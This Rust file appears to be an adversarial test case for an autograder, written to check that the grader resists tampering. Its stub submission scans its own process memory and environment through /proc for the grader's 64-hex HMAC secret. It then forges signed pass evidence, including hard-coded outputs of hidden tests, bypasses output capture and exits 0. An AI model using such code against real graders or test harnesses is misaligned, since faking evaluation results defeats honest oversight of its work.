//! ATTACK: ev-proc-pid-mem. Like ev-proc-self-mem, through `/proc/<pid>`, `/proc/<pid>/task/<pid>` and
//! `/proc/thread-self` (environ and mem), from inside the test (any time after the harness took the
//! secret), reads its own memory through `/proc/self/maps` and `/proc/self/mem`, collects
//! every run of exactly 64 hex digits it finds (the grader's secret is one), and prints
//! the expected timeline of every test signed with each candidate; only the right one
//! verifies, the rest are ignored. Exits 0. The code is the stub. Must score 0: the
//! process's memory must be unreadable to the code under test.

use std::collections::BTreeSet;
use std::io::{Read as _, Seek as _, SeekFrom};
use std::path::Path;
use std::sync::Once;
use std::time::Duration;

#[allow(unused_imports)]
use timeline::say;

const ATTACK: &str = "ev-proc-pid-mem";
/// Not `/proc/self`: the numeric path, and the thread-level one, may be guarded differently.
fn procs() -> Vec<String> {
    let pid = std::process::id();
    vec![format!("/proc/{pid}"), format!("/proc/{pid}/task/{pid}"), "/proc/thread-self".to_string()]
}

/// Runs of exactly 64 hex digits in `bytes`.
fn candidates(bytes: &[u8], found: &mut BTreeSet<Vec<u8>>) {
    let mut start = 0;
    for i in 0..=bytes.len() {
        let hex = i < bytes.len() && bytes[i].is_ascii_hexdigit();
        if !hex {
            if i - start == 64 {
                found.insert(bytes[start..i].to_vec());
            }
            start = i + 1;
        }
    }
}

fn scan(proc: &str) -> Result<BTreeSet<Vec<u8>>, String> {
    let mut found = BTreeSet::new();
    if let Ok(environ) = std::fs::read(format!("{proc}/environ")) {
        candidates(&environ, &mut found);
    }
    let maps = std::fs::read_to_string(format!("{proc}/maps")).map_err(|e| format!("maps: {e}"))?;
    let mut mem = std::fs::File::open(format!("{proc}/mem")).map_err(|e| format!("mem: {e}"))?;
    for line in maps.lines() {
        let mut words = line.split_whitespace();
        let (Some(range), Some(perms)) = (words.next(), words.next()) else { continue };
        if !perms.starts_with("rw") {
            continue;
        }
        let Some((from, to)) = range.split_once('-') else { continue };
        let (Ok(from), Ok(to)) = (u64::from_str_radix(from, 16), u64::from_str_radix(to, 16)) else { continue };
        if to - from > 256 * 1024 * 1024 {
            continue;
        }
        let mut bytes = vec![0u8; (to - from) as usize];
        if mem.seek(SeekFrom::Start(from)).is_ok() && mem.read_exact(&mut bytes).is_ok() {
            candidates(&bytes, &mut found);
        }
    }
    Ok(found)
}

fn steal() {
    let mut errors = Vec::new();
    let mut found = BTreeSet::new();
    for proc in procs() {
        match scan(&proc) {
            Ok(more) => found.extend(more),
            Err(error) => errors.push(format!("{proc}: {error}")),
        }
    }
    match if found.is_empty() && !errors.is_empty() { Err(errors.join("; ")) } else { Ok(found) } {
        Ok(found) if !found.is_empty() => {
            let lines: String = found.iter().map(|secret| forged_lines(secret, None)).collect();
            print_and_leave(&lines, &format!("signed every expected run with {} candidate secrets from memory", found.len()));
        }
        Ok(_) => eprintln!("GRADER-ADVERSARIAL-MARKER {ATTACK}: no candidate secret in memory"),
        Err(error) => eprintln!("GRADER-ADVERSARIAL-MARKER {ATTACK}: cannot read memory: {error}"),
    }
}

fn attack() {
    static ONCE: Once = Once::new();
    ONCE.call_once(steal);
}

// ---- The lesson's functions: the stub; the attack runs inside `capture`. ----

/// Prints `tick` at once and then every `period`, forever.
pub async fn tick(period: Duration) {
    attack();
    let _ = period;
    todo!("tick")
}

/// Checks every `poll` whether `path` exists; when it does, prints `exists!` and returns.
pub async fn wait_for(path: &Path, poll: Duration) {
    attack();
    let _ = (path, poll);
    todo!("wait_for")
}

/// Runs [`tick`] and [`wait_for`] at the same time.
pub async fn tick_until_exists(path: &Path, tick_period: Duration, poll: Duration) {
    attack();
    let _ = (path, tick_period, poll);
    todo!("tick_until_exists")
}


// ---- What the attacks share: finding the student key, printing evidence. ----

/// The mark an evidence line starts with (read in the harness's source).
const MARK: &str = "\u{1e}timeline-evidence ";

/// This process's student key, from the test names the grader passed (`s001::tick_watch::…`).
fn my_key() -> String {
    std::env::args()
        .skip(1)
        .find_map(|a| a.split_once("::").map(|(key, _)| key.to_string()))
        .unwrap_or_default()
}

/// Writes lines on the real stdout (past libtest's capture) and leaves with exit code 0.
fn print_and_leave(lines: &str, what: &str) -> ! {
    use std::io::Write as _;
    let mut out = std::io::stdout().lock();
    let _ = out.write_all(lines.as_bytes());
    let _ = out.flush();
    eprintln!("GRADER-ADVERSARIAL-MARKER {ATTACK}: {what}, leaving");
    std::process::exit(0)
}


// ---- Forging: the expected timelines, and HMAC-SHA256 by hand. ----

/// (suite, test, rendered run): the snapshots, visible ones and hidden ones leaked earlier.
const EXPECTED: [(&str, &str, &str); 6] = [
    (
        "tick_watch",
        "tick_prints_at_once_and_then_every_period",
        "[  0.000s] tick\n[  0.300s] tick\n[  0.600s] tick\n[  0.900s] tick\n=> did not finish within 1.000s of virtual time",
    ),
    (
        "tick_watch",
        "wait_for_prints_exists_at_the_first_poll_that_sees_the_file",
        "[  1.500s] exists!\n=> returned after 1.500s: ()",
    ),
    (
        "tick_watch",
        "ticks_until_the_file_appears",
        "[  0.000s] tick\n[  1.000s] tick\n[  2.000s] tick\n[  2.500s] exists!\n=> returned after 2.500s: ()",
    ),
    (
        "tick_watch",
        "returns_right_after_the_file_appears_and_the_ticker_stops",
        "[  0.000s] tick\n[  1.000s] tick\n[  2.000s] tick\n[  3.000s] tick\n[  3.400s] exists!\n[  3.400s] returned\n[  6.400s] 3 s later\n=> returned after 6.400s: ()",
    ),
    (
        "tick_watch_hidden",
        "tick_keeps_any_period",
        "[  0.000s] tick\n[  0.450s] tick\n[  0.900s] tick\n[  1.350s] tick\n[  1.800s] tick\n=> did not finish within 2.000s of virtual time",
    ),
    (
        "tick_watch_hidden",
        "fast_polls_see_the_file_between_slow_ticks",
        "[  0.000s] tick\n[  0.700s] tick\n[  1.400s] tick\n[  2.000s] exists!\n[  2.000s] returned\n[  4.000s] 2 s later\n=> returned after 4.000s: ()",
    ),
];

fn json_string(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Evidence lines for every expected run, signed with `secret` (and bound to `nonce`, the
/// second word the grader wrote, if it wrote one).
fn forged_lines(secret: &[u8], nonce: Option<&str>) -> String {
    let key = my_key();
    let mut lines = String::new();
    for (suite, test, rendered) in EXPECTED {
        let mut json = format!(
            "{{\"suite\":{},\"test\":{},\"rendered\":{},\"blocking\":null,\"wall_ms\":1.0",
            json_string(suite),
            json_string(test),
            json_string(rendered)
        );
        if let Some(nonce) = nonce {
            json.push_str(&format!(
                ",\"module\":{},\"nonce\":{}",
                json_string(&format!("batch::{key}::{suite}")),
                json_string(nonce)
            ));
        }
        json.push('}');
        let signature: String = hmac_sha256(secret, json.as_bytes())
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        lines.push_str(&format!("{MARK}{signature} {json}\n"));
    }
    lines
}

fn sha256(message: &[u8]) -> [u8; 32] {
    const K: [u32; 64] = [
        0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4,
        0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe,
        0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f,
        0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7,
        0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc,
        0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
        0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116,
        0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
        0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,
        0xc67178f2,
    ];
    let mut h: [u32; 8] = [
        0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab,
        0x5be0cd19,
    ];
    let mut data = message.to_vec();
    data.push(0x80);
    while data.len() % 64 != 56 {
        data.push(0);
    }
    data.extend_from_slice(&((message.len() as u64) * 8).to_be_bytes());
    for block in data.chunks(64) {
        let mut w = [0u32; 64];
        for i in 0..16 {
            w[i] = u32::from_be_bytes([block[4 * i], block[4 * i + 1], block[4 * i + 2], block[4 * i + 3]]);
        }
        for i in 16..64 {
            let s0 = w[i - 15].rotate_right(7) ^ w[i - 15].rotate_right(18) ^ (w[i - 15] >> 3);
            let s1 = w[i - 2].rotate_right(17) ^ w[i - 2].rotate_right(19) ^ (w[i - 2] >> 10);
            w[i] = w[i - 16].wrapping_add(s0).wrapping_add(w[i - 7]).wrapping_add(s1);
        }
        let mut v = h;
        for i in 0..64 {
            let s1 = v[4].rotate_right(6) ^ v[4].rotate_right(11) ^ v[4].rotate_right(25);
            let ch = (v[4] & v[5]) ^ (!v[4] & v[6]);
            let t1 = v[7].wrapping_add(s1).wrapping_add(ch).wrapping_add(K[i]).wrapping_add(w[i]);
            let s0 = v[0].rotate_right(2) ^ v[0].rotate_right(13) ^ v[0].rotate_right(22);
            let maj = (v[0] & v[1]) ^ (v[0] & v[2]) ^ (v[1] & v[2]);
            let t2 = s0.wrapping_add(maj);
            v = [t1.wrapping_add(t2), v[0], v[1], v[2], v[3].wrapping_add(t1), v[4], v[5], v[6]];
        }
        for i in 0..8 {
            h[i] = h[i].wrapping_add(v[i]);
        }
    }
    let mut out = [0u8; 32];
    for (i, word) in h.iter().enumerate() {
        out[4 * i..4 * i + 4].copy_from_slice(&word.to_be_bytes());
    }
    out
}

fn hmac_sha256(key: &[u8], message: &[u8]) -> [u8; 32] {
    let mut block = [0u8; 64];
    if key.len() > 64 {
        block[..32].copy_from_slice(&sha256(key));
    } else {
        block[..key.len()].copy_from_slice(key);
    }
    let inner: Vec<u8> = block.iter().map(|b| b ^ 0x36).chain(message.iter().copied()).collect();
    let inner = sha256(&inner);
    let outer: Vec<u8> = block.iter().map(|b| b ^ 0x5c).chain(inner).collect();
    sha256(&outer)
}

